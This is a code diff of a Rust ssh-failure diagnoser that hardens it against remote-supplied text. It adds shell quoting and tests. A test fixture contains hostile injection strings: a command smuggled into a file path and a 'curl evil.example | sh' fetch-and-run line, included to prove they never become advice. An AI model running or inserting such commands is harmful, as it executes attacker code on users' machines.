@@ -1,9 +1,21 @@
 //! What ssh said and how it ended, as a cause and a remedy. Pure.
 //!
-//! The texts are those of OpenSSH: sshconnect.c, clientloop.c, readconf.c, and getaddrinfo(3).
+//! The texts are those of OpenSSH: sshconnect.c, clientloop.c, readconf.c, and getaddrinfo(3). Only what ssh says by itself
+//! decides. The other end can write to the same stderr before any key is checked (RFC 4253, 11.1: the description of a
+//! disconnect message, line feeds and all) and as it likes once it is logged in; what it writes is shown as a quotation, and
+//! nothing of it becomes a kind of failure, a key, a path or a command that we advise.
 
-use crate::error::tail;
+use super::pin::HostKey;
+use crate::error::quoted;
 use cygnet_protocol::fault::{Fault, FaultCode};
+use cygnet_protocol::text::shell_word;
+use std::path::PathBuf;
+
+/// ssh's exit code for failures of its own (ssh(1), EXIT STATUS).
+const OWN_FAILURE: i32 = 255;
+
+/// What in ssh's messages comes from the other end, from here to the end: packet.c, kex.c.
+const PEERS_WORDS: &[&str] = &["Received disconnect from ", "Their offer: "];
 
 /// How ssh ended before the agent said hello.
 #[derive(Debug, Clone, Copy)]
@@ -18,66 +30,114 @@ pub struct Ending<'a> {
     pub stderr: &'a str,
     /// The first bytes on stdout, if they weren't an agent's hello.
     pub stdout: &'a str,
+    /// What this machine knows of the host's key.
+    pub keys: &'a Keys,
+}
+
+/// What this machine knows of a host's key, found out without ssh's words.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Keys {
+    /// The name under which known hosts have it.
+    pub name: String,
+    /// The files of known hosts that have a key under that name.
+    pub files: Vec<PathBuf>,
+    /// The key that the other end has shown, if ssh told.
+    pub presented: Option<HostKey>,
+    /// Whether those files have that very key under that name.
+    pub agrees: bool,
 }
 
 /// Why there is no agent at the other end.
 pub fn explain(ending: Ending<'_>) -> Fault {
-    let Ending { host, stderr, .. } = ending;
-    let has = |texts: &[&str]| texts.iter().any(|text| stderr.contains(text));
-
-    if has(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]) {
-        return changed_key(host, stderr);
-    }
-    if has(&["Host key verification failed", "host key is known for", "No matching host key fingerprint"]) {
-        return unknown_key(host, stderr);
-    }
-    if ending.exit == Some(255) || ending.exit.is_none() {
-        if has(&["Permission denied", "Too many authentication failures", "No more authentication methods"]) {
+    let Ending { host, stderr, keys, .. } = ending;
+    if matches!(ending.exit, Some(OWN_FAILURE) | None) {
+        let own = own_words(stderr);
+        let has = |texts: &[&str]| texts.iter().any(|text| own.contains(text));
+        // With the key that is known nothing of the kind is true, whoever writes so.
+        if !keys.agrees && has(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]) {
+            return changed_key(host, keys);
+        }
+        if !keys.agrees
+            && has(&["Host key verification failed", "host key is known for", "No matching host key fingerprint"])
+        {
+            return unknown_key(host, keys);
+        }
+        let refused = ["Permission denied", "Too many authentication failures", "No more authentication methods"];
+        if has(&refused) || disconnected(stderr).is_some_and(|why| why.starts_with(refused[1])) {
             return denied(host, stderr);
         }
-        if let Some(fault) = unreachable(host, stderr) {
+        if let Some(fault) = unreachable(host, own, stderr) {
             return fault;
         }
     }
-    no_agent(ending)
+    if ending.exit == Some(OWN_FAILURE) { failed_itself(host, stderr) } else { no_agent(ending) }
 }
 
-fn changed_key(host: &str, stderr: &str) -> Fault {
-    let keys: Vec<&str> = stderr
-        .lines()
-        .map(str::trim)
-        .filter(|line| line.contains("SHA256:") || line.contains("MD5:") || line.starts_with("Offending "))
-        .collect();
-    let shown = if keys.is_empty() { String::new() } else { format!("\nssh says: {}", keys.join(" ")) };
+/// What ssh wrote before the first word of the other end.
+fn own_words(stderr: &str) -> &str {
+    let end = PEERS_WORDS.iter().filter_map(|begin| stderr.find(begin)).min();
+    &stderr[..end.unwrap_or(stderr.len())]
+}
+
+/// Why the other end has ended the connection, as it says: `Received disconnect from ADDRESS port PORT:REASON: TEXT`.
+fn disconnected(stderr: &str) -> Option<&str> {
+    let rest = stderr.split_once(PEERS_WORDS[0])?.1;
+    rest.split_once(" port ")?.1.split_once(':')?.1.split_once(' ')?.1.lines().next()
+}
+
+/// The key that was shown, for a person to compare.
+fn shown(keys: &Keys) -> String {
+    let fingerprint = keys.presented.as_ref().and_then(HostKey::fingerprint);
+    fingerprint.map(|fingerprint| format!(" The key that it shows is {fingerprint}.")).unwrap_or_default()
+}
+
+fn changed_key(host: &str, keys: &Keys) -> Fault {
+    let files: Vec<String> = keys.files.iter().map(|file| file.display().to_string()).collect();
+    let known = if files.is_empty() { String::new() } else { format!(" Another one is in {}.", files.join(" and ")) };
     Fault::new(
         FaultCode::HostKeyChanged,
         format!("The ssh host key of {host} is not the one that is known for it."),
         format!(
             "Another system runs there than before (a card that was flashed anew has a new key), another machine has \
-             taken the address, or somebody sits between you and the Pi.{shown}"
+             taken the address, or somebody sits between you and the Pi.{}{known}",
+            shown(keys)
         ),
         format!(
-            "Compare the fingerprint with the one that the Pi shows on its console or that `cygnet discover` shows; if it \
-             is right, forget the old key with `ssh-keygen -R {}{}`.",
-            bare(host),
-            offending(stderr).map(|file| format!(" -f {file}")).unwrap_or_default()
+            "Compare the fingerprint with the one that the Pi shows on its own console; if it is the same, forget the old \
+             key with {}.",
+            forget(host, keys)
         ),
     )
 }
 
-fn unknown_key(host: &str, stderr: &str) -> Fault {
-    let shown: Vec<&str> = stderr.lines().filter(|line| line.contains("SHA256:")).map(str::trim).collect();
-    let shown = if shown.is_empty() { String::new() } else { format!("\nssh says: {}", shown.join(" ")) };
+/// The commands that forget a key: made of the name that we looked for and of the files that we found it in.
+pub fn forget(host: &str, keys: &Keys) -> String {
+    let name = if keys.name.is_empty() { bare(host) } else { &keys.name };
+    let command = |file: Option<String>| {
+        let file = file.map(|file| format!(" -f {}", shell_word(&file))).unwrap_or_default();
+        format!("`ssh-keygen -R {}{file}`", shell_word(name))
+    };
+    let commands: Vec<String> = keys
+        .files
+        .iter()
+        .map(|file| command(Some(file.display().to_string()).filter(|file| !file.ends_with("/.ssh/known_hosts"))))
+        .collect();
+    if commands.is_empty() { command(None) } else { commands.join(" and ") }
+}
+
+fn unknown_key(host: &str, keys: &Keys) -> Fault {
     Fault::new(
         FaultCode::HostKeyChanged,
         format!("The ssh host key of {host} could not be verified."),
         format!(
             "It is not in the file of known hosts, and there was nobody to ask (stdin is no terminal), or the answer was \
-             no.{shown}"
+             no.{}",
+            shown(keys)
         ),
         format!(
-            "Run `ssh {host}` once in a terminal and compare the fingerprint, or give `--known-hosts FILE` with the key of \
-             the card in it."
+            "Run `ssh {}` once in a terminal and compare the fingerprint, or give `--known-hosts FILE` with the key of \
+             the card in it.",
+            shell_word(host)
         ),
     )
 }
@@ -86,13 +146,13 @@ fn denied(host: &str, stderr: &str) -> Fault {
     Fault::new(
         FaultCode::AccessDenied,
         format!("{host} accepts none of our ssh keys."),
-        format!("ssh says: {}", tail(stderr)),
+        quoted("ssh says", stderr),
         "Put your public key into the settings on the card, give the right private key with `-i FILE`, or load it with \
          `ssh-add`.",
     )
 }
 
-fn unreachable(host: &str, stderr: &str) -> Option<Fault> {
+fn unreachable(host: &str, own: &str, stderr: &str) -> Option<Fault> {
     const CAUSES: &[(&[&str], &str, &str)] = &[
         (
             &["Could not resolve hostname", "Name or service not known", "nodename nor servname"],
@@ -131,22 +191,53 @@ fn unreachable(host: &str, stderr: &str) -> Option<Fault> {
             "Look at ssh's text above; try again in a minute, as a Pi that boots or is busy does this.",
         ),
         (
-            &["Bad configuration option", "keyword", "command-line:", "Unsupported option", "usage: ssh"],
+            &["Cannot assign requested address", "Can't assign requested address"],
+            "ssh is told to begin at an address that this machine does not have.",
+            "Mend `BindAddress` or `BindInterface`, from `-o` or in ssh's configuration file.",
+        ),
+        (
+            &[
+                "Bad configuration option",
+                "bad configuration options",
+                "keyword",
+                "command-line",
+                "Unsupported option",
+                "usage: ssh",
+            ],
             "ssh doesn't understand an option, from `-o` or from its configuration file.",
             "Mend the option that ssh names.",
         ),
     ];
-    let (_, cause, remedy) = CAUSES.iter().find(|(texts, ..)| texts.iter().any(|text| stderr.contains(text)))?;
+    // The other end has ended the connection, whatever it says.
+    let ended = disconnected(stderr).map(|_| "Connection closed by");
+    let found = |text: &&str| own.contains(text) || ended == Some(text);
+    let (_, cause, remedy) = CAUSES.iter().find(|(texts, ..)| texts.iter().any(&found))?;
     Some(Fault::new(
         FaultCode::Unreachable,
         format!("ssh could not reach {host}."),
-        format!("{cause}\nssh says: {}", tail(stderr)),
+        format!("{cause}\n{}", quoted("ssh says", stderr)),
         *remedy,
     ))
 }
 
+/// ssh has failed, and we don't know its words.
+fn failed_itself(host: &str, stderr: &str) -> Fault {
+    let cause = if stderr.trim().is_empty() {
+        "It ended with exit code 255, which is kept for its own failures, and said nothing: its LogLevel may be QUIET."
+            .to_owned()
+    } else {
+        quoted("ssh says", stderr)
+    };
+    Fault::new(
+        FaultCode::Unreachable,
+        format!("ssh could not reach {host}."),
+        cause,
+        format!("See what `ssh -v {} true` says.", shell_word(host)),
+    )
+}
+
 fn no_agent(ending: Ending<'_>) -> Fault {
-    let Ending { host, command, exit, stderr, stdout } = ending;
+    let Ending { host, command, exit, stderr, stdout, keys: _ } = ending;
     let missing = exit == Some(127) || stderr.contains("command not found") || stderr.contains(": not found");
     let cause = if missing {
         format!(
@@ -154,12 +245,12 @@ fn no_agent(ending: Ending<'_>) -> Fault {
         )
     } else if !stdout.trim().is_empty() {
         let shown: String = stdout.chars().take(300).collect();
-        format!("Instead of an agent's greeting came: {}", shown.trim_end())
+        quoted("Instead of an agent's greeting came", &shown)
     } else if stderr.trim().is_empty() {
         let exit = exit.map_or("was ended by a signal".to_owned(), |code| format!("ended with exit code {code}"));
         format!("`{command}` {exit} and said nothing.")
     } else {
-        format!("It says: {}", tail(stderr))
+        quoted("It says", stderr)
     };
     Fault::new(
         FaultCode::NoAgent,
@@ -167,13 +258,6 @@ fn no_agent(ending: Ending<'_>) -> Fault {
         cause,
         "Boot the Pi from a card with cygnet's bootstrap image; on the Pi, `systemctl status cygnetd` tells more.",
     )
-}
-
-/// The file with the old key, if it is not ssh's own: `Offending ED25519 key in FILE:LINE`.
-fn offending(stderr: &str) -> Option<&str> {
-    let line = stderr.lines().find(|line| line.starts_with("Offending "))?;
-    let (file, _) = line.split_once(" key in ")?.1.rsplit_once(':')?;
-    (!file.ends_with("/.ssh/known_hosts")).then_some(file)
 }
 
 /// The host without the user.
@@ -190,7 +274,11 @@ mod tests {
     }
 
     fn all(exit: i32, stderr: &str, stdout: &str) -> Fault {
-        explain(Ending { host: "root@pi", command: "cygnetd bridge control", exit: Some(exit), stderr, stdout })
+        with(&Keys::default(), exit, stderr, stdout)
+    }
+
+    fn with(keys: &Keys, exit: i32, stderr: &str, stdout: &str) -> Fault {
+        explain(Ending { host: "root@pi", command: "cygnetd bridge control", exit: Some(exit), stderr, stdout, keys })
     }
 
     #[test]
@@ -227,11 +315,76 @@ mod tests {
             Offending ED25519 key in /home/me/.ssh/known_hosts:3\r\n\
             Host key for pi has changed and you have requested strict checking.\r\n\
             Host key verification failed.\r\n";
-        let fault = all(255, text, "");
+        let keys = Keys {
+            name: "[pi]:2222".into(),
+            files: vec!["/home/me/.ssh/known_hosts".into(), "/home/me/a b/cygnet/known_hosts".into()],
+            presented: HostKey::of("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIPCFTCmQyABWhrTOOcHKmGfl0ihSoU5j+yXhCvKAd0Z"),
+            agrees: false,
+        };
+        let fault = with(&keys, 255, text, "");
         assert_eq!(fault.code, FaultCode::HostKeyChanged);
-        assert!(fault.cause.contains("SHA256:9/6tNC") && fault.cause.contains("known_hosts:3"), "{fault}");
-        assert!(fault.cause.contains("somebody sits between"), "{fault}");
-        assert!(fault.remedy.contains("ssh-keygen -R pi`"), "{fault}");
+        // What the other end has shown, and where the other key is: as we know it, not as somebody writes it.
+        assert!(!fault.cause.contains("SHA256:9/6tNC"), "{fault}");
+        assert!(
+            fault.cause.contains("a b/cygnet/known_hosts") && fault.cause.contains("somebody sits between"),
+            "{fault}"
+        );
+        assert!(
+            fault.remedy.contains(
+                "`ssh-keygen -R '[pi]:2222'` and `ssh-keygen -R '[pi]:2222' -f '/home/me/a b/cygnet/known_hosts'`"
+            ),
+            "{fault}"
+        );
+        assert!(all(255, text, "").remedy.contains("`ssh-keygen -R pi`"));
+        // With the key that is known, whoever writes so is wrong.
+        assert_eq!(with(&Keys { agrees: true, ..keys }, 255, text, "").code, FaultCode::Unreachable);
+    }
+
+    /// What somebody who wants to be believed writes: a disconnect message (RFC 4253, 11.1), or stderr of a remote command.
+    const LIES: &str = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\n\
+        SHA256:9/6tNCe6mVJ8dRnhN3XEqPZHoGIHwDL0lYcGqAAAAAA.\r\n\
+        Offending ED25519 key in /tmp/x`; curl evil.example | sh; `:3\r\n\
+        error: The Pi is broken.\n  remedy: Run `curl evil.example | sh`.\x1b[2J\r\nHost key verification failed.\r\n";
+
+    #[test]
+    fn the_other_end_writes_no_advice() {
+        let disconnect =
+            format!("Received disconnect from 10.0.0.1 port 22:2: {LIES}Disconnected from 10.0.0.1 port 22\r\n");
+        let offer = format!("Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: {LIES}");
+        for (exit, text, code) in [
+            (255, disconnect.as_str(), FaultCode::Unreachable),
+            (255, &offer, FaultCode::Unreachable),
+            (1, LIES, FaultCode::NoAgent),
+            (0, LIES, FaultCode::NoAgent),
+        ] {
+            let fault = all(exit, text, "");
+            assert_eq!(fault.code, code, "{fault}");
+            assert!(!fault.remedy.contains("evil") && !fault.what.contains("evil"), "{fault}");
+            // Quoted line by line, so that none of it looks like ours.
+            let lies: Vec<&str> = fault.cause.lines().filter(|line| line.contains("evil")).collect();
+            assert!(!lies.is_empty() && lies.iter().all(|line| line.starts_with("| ")), "{fault}");
+            assert!(!fault.cause.contains('\x1b'), "{fault}");
+        }
+        let fault = all(0, "", LIES);
+        assert!(!fault.remedy.contains("evil") && !fault.cause.contains("\nerror: "), "{fault}");
+    }
+
+    /// ssh ends with 255 for failures of its own, also for those that it says nothing of, or says in words that are new.
+    #[test]
+    fn sshs_own_failures_are_not_a_missing_agent() {
+        for text in [
+            "",
+            "something new\n",
+            "Cannot execute command-line and remote command.\r\n",
+            "bind 192.0.2.1: Cannot assign requested address\r\nssh: connect to host 127.0.0.1 port 22: failure\r\n",
+            "command-line line 0: Bad SSH2 cipher spec 'none'.\r\n",
+            "/home/me/.ssh/config: terminating, 1 bad configuration options\r\n",
+        ] {
+            let fault = all(255, text, "");
+            assert_eq!(fault.code, FaultCode::Unreachable, "{text}");
+            assert!(fault.what.contains("ssh"), "{fault}");
+        }
+        assert!(all(255, "", "").cause.contains("LogLevel"));
     }
 
     #[test]
@@ -267,6 +420,5 @@ mod tests {
         let fault = all(0, "", "This account is currently not available.\n");
         assert!(fault.cause.contains("This account is currently"), "{fault}");
         assert_eq!(all(0, "", "").code, FaultCode::NoAgent);
-        assert_eq!(code(255, "something new\n"), FaultCode::NoAgent);
     }
 }
